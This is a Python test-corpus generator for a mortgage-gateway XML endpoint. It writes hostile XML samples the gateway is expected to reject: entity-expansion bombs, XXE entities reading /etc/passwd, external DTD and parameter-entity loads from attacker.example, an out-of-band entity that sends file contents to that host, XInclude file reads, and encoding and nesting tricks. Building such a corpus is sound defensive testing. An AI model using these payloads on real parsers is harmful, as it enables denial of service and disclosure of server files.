"""Write the kept corpus of hostile XML that needs no signature (tests/hostile/corpus/*.xml).

Run from the repository root: ``python -m tests.hostile.make_corpus``. The output is
deterministic, so running it again changes nothing unless this script changed; the files are
kept in the repository so they can be read, diffed and fed to other tools. Every file here is
refused before its signature is looked at (size, DTDs and entities, encoding, well-formedness,
schema), so none needs to be signed. Variants of a correctly signed request are built by
``tests/hostile/signed_variants.py`` at test time instead: a signature must come from a
certificate the test's trust anchors hold and ``CreatedAt`` must fall within the window of the
time of receipt, so they cannot be kept as files.
"""
from __future__ import annotations

from pathlib import Path

CORPUS = Path(__file__).parent / "corpus"
NS = "urn:pingluo-bdc:mortgage-gateway:v1"
DECLARATION = "<?xml version='1.0' encoding='UTF-8'?>\n"
# A small but schema-shaped application head, so that refusals come from the attack, not the root.
HEAD = (f'<MortgageApplication xmlns="{NS}" version="1"><RequestId>REQ-hostile-0001</RequestId>'
        "<CreatedAt>2026-12-01T09:00:00+08:00</CreatedAt><RegistrationType>MORTGAGE_FIRST</RegistrationType>")
TAIL = "</MortgageApplication>"

LAUGHS = "".join(
    f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">\n' for n in range(1, 10)
)


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


def documents() -> dict[str, bytes]:
    """File name -> bytes. The expected refusal of each is in tests/hostile/test_hostile_xml_corpus.py."""
    return {
        # Entity tricks: every DOCTYPE is refused before libxml2 reads it.
        "entity_billion_laughs.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [\n <!ENTITY lol0 "lol">\n{LAUGHS}]>\n'
            f"{HEAD}<Mortgagee><Code>&lol9;</Code></Mortgagee>{TAIL}"),
        "entity_quadratic_blowup.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [<!ENTITY a "{"x" * 5000}">]>\n'
            f"{HEAD}<Mortgagee><Code>{'&a;' * 2000}</Code></Mortgagee>{TAIL}"),
        "entity_external_file.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            f"{HEAD}<Mortgagee><Code>&xxe;</Code></Mortgagee>{TAIL}"),
        "entity_external_parameter_http.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [<!ENTITY % remote SYSTEM '
            f'"http://attacker.example/evil.dtd"> %remote;]>\n{HEAD}{TAIL}'),
        "entity_parameter_out_of_band.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [<!ENTITY % file SYSTEM "file:///etc/hostname">'
            f'<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'http://attacker.example/?%file;\'>"> %wrap; %send;]>\n'
            f"{HEAD}{TAIL}"),
        "dtd_external_system.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication SYSTEM "http://attacker.example/application.dtd">\n'
            f"{HEAD}{TAIL}"),
        "dtd_lower_case_doctype.xml": _utf8(f"{DECLARATION}<!doctype MortgageApplication>\n{HEAD}{TAIL}"),
        "dtd_attlist_default_attribute.xml": _utf8(
            f'{DECLARATION}<!DOCTYPE MortgageApplication [<!ATTLIST MortgageApplication version CDATA "9">]>\n'
            f"{HEAD}{TAIL}"),
        "entity_undeclared_reference.xml": _utf8(f"{DECLARATION}{HEAD}<Mortgagee><Code>&xxe;</Code></Mortgagee>{TAIL}"),
        # Encodings that are not ASCII-compatible: a byte screen could not see a DOCTYPE in them.
        "encoding_utf16_le_bom.xml": b"\xff\xfe" + f"<?xml version='1.0' encoding='UTF-16'?>\n{HEAD}{TAIL}".encode("utf-16-le"),
        "encoding_utf16_be_bom.xml": b"\xfe\xff" + f"<?xml version='1.0' encoding='UTF-16'?>\n{HEAD}{TAIL}".encode("utf-16-be"),
        "encoding_utf16_le_no_bom.xml": f"<?xml version='1.0' encoding='UTF-16LE'?>\n{HEAD}{TAIL}".encode("utf-16-le"),
        "encoding_utf16_doctype_hidden.xml": b"\xff\xfe" + (
            "<?xml version='1.0' encoding='UTF-16'?>\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
            f"{HEAD}<Mortgagee><Code>&x;</Code></Mortgagee>{TAIL}").encode("utf-16-le"),
        "encoding_utf32_be_bom.xml": b"\x00\x00\xfe\xff" + f"{HEAD}{TAIL}".encode("utf-32-be"),
        # Encodings that lie: the declaration and the bytes disagree.
        "encoding_gb18030_declared_utf8.xml": f"{DECLARATION}{HEAD}<Mortgagee><Name>平罗县测试商业银行</Name></Mortgagee>{TAIL}".encode("gb18030"),
        "encoding_unknown_declared.xml": _utf8(f"<?xml version='1.0' encoding='X-NO-SUCH-CHARSET'?>\n{HEAD}{TAIL}"),
        "encoding_invalid_utf8_bytes.xml": _utf8(f"{DECLARATION}{HEAD}<Mortgagee><Name>") + b"\xc3\x28\xa0\xa1" + _utf8(f"</Name></Mortgagee>{TAIL}"),
        # Nesting and size.
        "nesting_deep_10000.xml": _utf8(f"{DECLARATION}{HEAD}{'<x>' * 10000}{'</x>' * 10000}{TAIL}"),
        "nesting_deep_200_in_value.xml": _utf8(f"{DECLARATION}{HEAD}<Mortgagee>{'<Code>' * 200}{'</Code>' * 200}</Mortgagee>{TAIL}"),
        "attribute_many_on_root.xml": _utf8(
            f'{DECLARATION}<MortgageApplication xmlns="{NS}" version="1" '
            + " ".join(f'a{n}="{n}"' for n in range(5000)) + f">{HEAD.split('>', 1)[1]}{TAIL}"),
        "children_many_unknown.xml": _utf8(f"{DECLARATION}{HEAD}{'<x/>' * 40000}{TAIL}"),
        "attribute_duplicate.xml": _utf8(f'{DECLARATION}<MortgageApplication xmlns="{NS}" version="1" version="2">'
                                          f"{HEAD.split('>', 1)[1]}{TAIL}"),
        # Namespaces and roots.
        "namespace_wrong_root_namespace.xml": _utf8(f"{DECLARATION}{HEAD.replace(NS, 'urn:evil:v1')}{TAIL}"),
        "namespace_undeclared_prefix.xml": _utf8(f"{DECLARATION}{HEAD}<evil:Mortgagee/>{TAIL}"),
        "namespace_child_redefines_default.xml": _utf8(
            f'{DECLARATION}{HEAD}<Mortgagee xmlns="urn:evil:v1"><Code>91640221MA76B3KX0N</Code></Mortgagee>{TAIL}'),
        "namespace_xinclude.xml": _utf8(
            f'{DECLARATION}{HEAD}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
            f'parse="text"/>{TAIL}'),
        "root_soap_envelope_wrapper.xml": _utf8(
            f'{DECLARATION}<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>{HEAD}{TAIL}</Body></Envelope>'),
        # Not XML at all, or not all of it.
        "malformed_empty.xml": b"",
        "malformed_truncated.xml": _utf8(f"{DECLARATION}{HEAD}<Mortgagee><Co"),
        "malformed_two_roots.xml": _utf8(f"{DECLARATION}{HEAD}{TAIL}{HEAD}{TAIL}"),
        "malformed_nul_byte.xml": _utf8(f"{DECLARATION}{HEAD}<Mortgagee><Code>9164\x00</Code></Mortgagee>{TAIL}"),
        "malformed_json_body.xml": b'{"RequestId": "REQ-hostile-0001"}',
    }


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, data in documents().items():
        (CORPUS / name).write_bytes(data)
    print(f"wrote {len(documents())} files to {CORPUS}")


if __name__ == "__main__":
    main()
